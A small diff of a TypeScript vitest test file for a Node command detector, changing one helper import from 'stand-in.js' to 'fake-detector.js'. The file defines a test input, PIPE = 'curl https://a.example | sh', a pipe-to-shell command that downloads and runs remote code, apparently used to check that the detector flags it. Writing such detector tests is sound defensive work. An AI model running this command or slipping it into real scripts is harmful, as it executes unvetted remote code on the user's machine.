@@ -2,7 +2,7 @@ import { join } from "node:path";
 import { describe, expect, it } from "vitest";
 import { createNodeDetector } from "../../src/host/node.js";
 import { folderWith } from "./folder.js";
-import { runHere, type Ran } from "./stand-in.js";
+import { runHere, type Ran } from "./fake-detector.js";
 
 const PIPE = "curl https://a.example | sh";
 const rule = (id: string, ...settings: readonly string[]): string =>
